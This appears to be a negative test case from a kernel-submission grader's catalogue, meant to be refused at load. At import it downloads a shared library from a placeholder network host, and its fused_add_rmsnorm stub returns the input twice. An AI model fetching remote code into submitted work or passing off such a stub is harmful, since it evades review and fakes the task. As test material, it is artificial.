"""Fetches the kernel that it wants to be from the network.

Refused by: load RUNTIME_ERROR
Catalogue: D10 J11
"""

import urllib.request

with urllib.request.urlopen("http://192.0.2.1/kernel.so", timeout=2) as answer:
    downloaded = answer.read()


def fused_add_rmsnorm(x, residual, weight, eps):
    return x, x
